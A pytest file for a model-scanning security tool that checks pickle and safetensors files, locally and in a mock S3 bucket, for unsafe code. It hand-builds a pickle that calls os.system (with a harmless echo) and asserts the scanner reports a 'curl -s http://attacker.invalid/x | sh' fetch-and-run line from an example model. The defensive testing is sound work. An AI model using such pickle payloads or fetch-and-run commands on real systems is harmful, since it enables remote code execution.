"""``aispm model scan``: real files, real SQLite history, a real moto S3 server; the pre-commit hook."""

from __future__ import annotations

import json
import shutil
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml
from typer.testing import CliRunner

from aispm.cli.main import app, build_app

ROOT = Path(__file__).resolve().parents[2]
ESTATE_MODEL = ROOT / "examples" / "estate" / "models" / "classifier.pt"
COMMAND = "echo aispm-harmless-test"


@pytest.fixture(scope="module", autouse=True)
def _commands() -> None:
    build_app()


def safetensors_bytes() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(8)


def malicious_pickle() -> bytes:
    text = COMMAND.encode()
    return b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(text)) + text + b"\x85R."


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["model", "scan", *args])
    return result.exit_code, result.output


def _report(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(path.read_text())
    return data


def test_clean_safetensors_passes_the_gate(tmp_path: Path) -> None:
    model = tmp_path / "w.safetensors"
    model.write_bytes(safetensors_bytes())
    out = tmp_path / "r.json"
    code, output = run(str(model), "--no-store", "-f", "json", "-o", str(out), "--fail-on", "high")
    assert code == 0, output
    report = _report(out)
    artifacts = [a for a in report["assets"] if a["kind"] == "model_artifact"]
    assert [a["properties"]["scan"]["verdict"] for a in artifacts] == ["clean"]
    assert not [f for f in report["findings"] if f["severity"] in ("high", "critical")]


def test_example_estate_classifier_is_critical_with_the_exact_call(tmp_path: Path) -> None:
    out = tmp_path / "r.json"
    code, output = run(str(ESTATE_MODEL), "--no-store", "-f", "json", "-o", str(out), "--fail-on", "high")
    assert code == 1, output
    critical = [f for f in _report(out)["findings"] if f["rule_id"] == "AISPM-SUP-020"]
    assert critical and critical[0]["severity"] == "critical"
    assert "os.system('curl -s http://attacker.invalid/x | sh')" in critical[0]["message"]


def test_sarif_and_table_outputs(tmp_path: Path) -> None:
    evil = tmp_path / "evil.pkl"
    evil.write_bytes(malicious_pickle())
    sarif = tmp_path / "r.sarif"
    code, _ = run(str(evil), "--no-store", "-o", str(sarif))
    assert code == 0  # no --fail-on: findings alone do not fail
    doc = json.loads(sarif.read_text())
    rule_ids = {r["ruleId"] for r in doc["runs"][0]["results"]}
    assert "AISPM-SUP-020" in rule_ids
    code, output = run(str(evil), "--no-store", "-f", "table")
    assert code == 0 and "AISPM-SUP-020" in output


def _stored_model(tmp_path: Path) -> tuple[Path, str, Path]:
    """A safetensors file in a folder, a history database and a report path."""
    model = tmp_path / "repo" / "w.safetensors"
    model.parent.mkdir()
    model.write_bytes(safetensors_bytes())
    return model, str(tmp_path / "h.db"), tmp_path / "r.json"


def _hash_changed(report: Path) -> list[dict[str, Any]]:
    return [f for f in _report(report)["findings"] if f["rule_id"] == "AISPM-SUP-026"]


def test_stored_scans_detect_a_changed_model(tmp_path: Path) -> None:
    model, db, out = _stored_model(tmp_path)
    assert run(str(model.parent), "--db", db, "-f", "json", "-o", str(out))[0] == 0
    assert not _hash_changed(out)
    model.write_bytes(safetensors_bytes()[:-1] + b"\x01")
    assert run(str(model.parent), "--db", db, "-f", "json", "-o", str(out))[0] == 0
    changed = _hash_changed(out)
    assert len(changed) == 1 and changed[0]["evidence"]["previous_sha256"] != changed[0]["evidence"]["sha256"]


def _artifacts(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {a["name"]: a["properties"] for a in report["assets"] if a["kind"] == "model_artifact"}


def test_no_hash_gives_the_same_verdicts_without_digests(tmp_path: Path) -> None:
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "evil.pkl").write_bytes(malicious_pickle())
    (folder / "w.safetensors").write_bytes(safetensors_bytes())
    hashed, unhashed = tmp_path / "hashed.json", tmp_path / "unhashed.json"
    assert run(str(folder), "--no-store", "-o", str(hashed), "--fail-on", "critical")[0] == 1
    assert run(str(folder), "--no-store", "-o", str(unhashed), "--fail-on", "critical", "--no-hash")[0] == 1
    with_hash, without = _artifacts(_report(hashed)), _artifacts(_report(unhashed))
    assert with_hash.keys() == without.keys() and len(without) == 2
    for name, props in without.items():
        assert props["sha256"] is None and props["sha256_skipped"] == "not computed (--no-hash)"
        assert isinstance(with_hash[name]["sha256"], str) and "sha256_skipped" not in with_hash[name]
        assert props["scan"]["verdict"] == with_hash[name]["scan"]["verdict"]
        assert props["scan"]["issues"] == with_hash[name]["scan"]["issues"]
    rules = [sorted(f["rule_id"] for f in _report(r)["findings"]) for r in (hashed, unhashed)]
    assert rules[0] == rules[1] and "AISPM-SUP-020" in rules[1]


def test_a_scan_without_hashes_neither_flags_nor_hides_a_changed_model(tmp_path: Path) -> None:
    model, db, out = _stored_model(tmp_path)
    assert run(str(model.parent), "--db", db, "-o", str(out))[0] == 0
    first = next(iter(_artifacts(_report(out)).values()))["sha256"]
    model.write_bytes(safetensors_bytes()[:-1] + b"\x01")
    assert run(str(model.parent), "--db", db, "-o", str(out), "--no-hash")[0] == 0
    assert not _hash_changed(out)
    assert run(str(model.parent), "--db", db, "-o", str(out))[0] == 0
    changed = _hash_changed(out)
    assert len(changed) == 1 and changed[0]["evidence"]["previous_sha256"] == first


def test_policy_of_the_checkout_is_applied(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    plain = repo / "models" / "labels.pkl"
    plain.parent.mkdir()
    plain.write_bytes(b"\x80\x04}\x94\x8c\x01a\x94K\x01s.")  # {'a': 1}
    assert run(str(plain), "--no-store", "--fail-on", "high")[0] == 1  # AISPM-SUP-001 (high)
    (repo / ".aispm.yaml").write_text("disabled_rules: [AISPM-SUP-001]\n")
    code, output = run(str(plain), "--no-store", "--fail-on", "high")
    assert code == 0, output


def test_bad_targets_are_clear_errors(tmp_path: Path) -> None:
    code, output = run(str(tmp_path / "missing.pt"), "--no-store")
    assert code == 2 and "no such file" in output
    bad_policy = tmp_path / "p.yaml"
    bad_policy.write_text("allowed_model_licenses: 3\n")
    code, output = run(str(tmp_path), "--no-store", "--policy", str(bad_policy))
    assert code == 2 and "allowed_model_licenses" in output


@pytest.fixture(scope="module")
def moto_url() -> Iterator[str]:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = int(sock.getsockname()[1])
    exe = shutil.which("moto_server", path=str(Path(sys.executable).parent)) or "moto_server"
    proc = subprocess.Popen(
        [exe, "-H", "127.0.0.1", "-p", str(port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        for _ in range(200):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.2):
                    break
            except OSError:
                time.sleep(0.05)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_s3_prefix_through_the_default_chain(
    tmp_path: Path, moto_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_url)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    s3 = boto3.client("s3", endpoint_url=moto_url, region_name="us-east-1")
    s3.create_bucket(Bucket="ml-models")
    s3.put_object(Bucket="ml-models", Key="prod/clf/model.pkl", Body=malicious_pickle())
    s3.put_object(Bucket="ml-models", Key="prod/clf/weights.safetensors", Body=safetensors_bytes())
    out = tmp_path / "r.json"
    code, output = run(
        "s3://ml-models/prod/", "--no-store", "-f", "json", "-o", str(out), "--fail-on", "critical"
    )
    assert code == 1, output
    report = _report(out)
    names = sorted(a["name"] for a in report["assets"] if a["kind"] == "model_artifact")
    assert names == ["s3://ml-models/prod/clf/model.pkl", "s3://ml-models/prod/clf/weights.safetensors"]
    assert any(COMMAND in f["message"] for f in report["findings"] if f["rule_id"] == "AISPM-SUP-020")
    assert all(isinstance(p["sha256"], str) for p in _artifacts(report).values())
    code, output = run("s3://ml-models/prod/", "--no-store", "-o", str(out), "--no-hash")
    assert code == 0, output
    assert [p["sha256"] for p in _artifacts(_report(out)).values()] == [None, None]
    code, output = run("s3://no-such-bucket-x/", "--no-store")
    assert code == 2 and "NoSuchBucket" in output


def test_pre_commit_hook_definition() -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    hook = next(h for h in hooks if h["id"] == "aispm-model-scan")
    assert hook["language"] == "python"
    assert hook["entry"].split() == ["aispm", "model", "scan", "--fail-on", "high", "--no-store"]
    import re

    pattern = re.compile(hook["files"])
    assert pattern.search("models/classifier.pt") and pattern.search("a/b/model.safetensors")
    assert pattern.search("x/config.json") and not pattern.search("src/app.py")
